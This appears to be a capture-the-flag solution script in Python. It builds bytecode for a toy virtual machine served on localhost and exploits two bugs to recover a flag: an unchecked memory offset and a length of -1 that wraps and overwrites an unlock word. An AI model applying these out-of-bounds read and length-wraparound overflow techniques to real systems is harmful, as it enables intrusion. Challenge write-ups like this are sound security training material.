import re, socket, sys
plates = [bytes.fromhex(code) for code in re.findall(r"RUN (\w+)", open("casing.txt").read())]
# The first instructions of three programs are enough: load a number, load a byte, jump where nought, print, add, jump, stop, trap.
greets, says = plates[0], plates[5]
LDI, mask = greets[0], greets[1] ^ 0x10
LDB, JZ, OUT, ADD, JMP, HALT = greets[8], greets[12], greets[16], greets[18], greets[20], greets[23]
TRAP = says[8]
regs = lambda a, b=0: (a << 4 | b) ^ mask
word = lambda n: n.to_bytes(2, "big")
ldi = lambda a, n: bytes([LDI, regs(a)]) + word(n)
ldb = lambda a, b, n: bytes([LDB, regs(a, b)]) + word(n)
line = socket.create_connection(("127.0.0.1", 7300))
file = line.makefile("rb")
def run(program):
    line.sendall(f"RUN {program.hex()}\n".encode())
    return bytes.fromhex("".join(file.readline().decode().split()[1:]))
# The monitor can be read: the base is ours, the offset is not looked at.
assert sum(run(ldi(1, 0) + b"".join(ldb(0, 1, 0x8000 + n) + bytes([OUT, regs(0)]) for n in range(40)) + bytes([HALT]))) > 0
# A message of length -1 ends at its nought, and runs over the word that says whether the safe is unlocked.
message = b"\1" * 0x30 + b"\x5a\xfe" + b"\x7f\x7f"
read = b"".join(ldi(1, n) + bytes([TRAP, 3, OUT, regs(0)]) for n in range(32))
body = lambda at: ldi(1, at) + ldi(2, 0xFFFF if sys.argv[1] == "wrap" else 32) + bytes([TRAP, 1]) + read + bytes([HALT])
program = body(0x100 + len(body(0))) + message + b"\0"
print(re.search(rb"flag\{\w+\}|$", run(program)).group(0).decode() or "nothing")
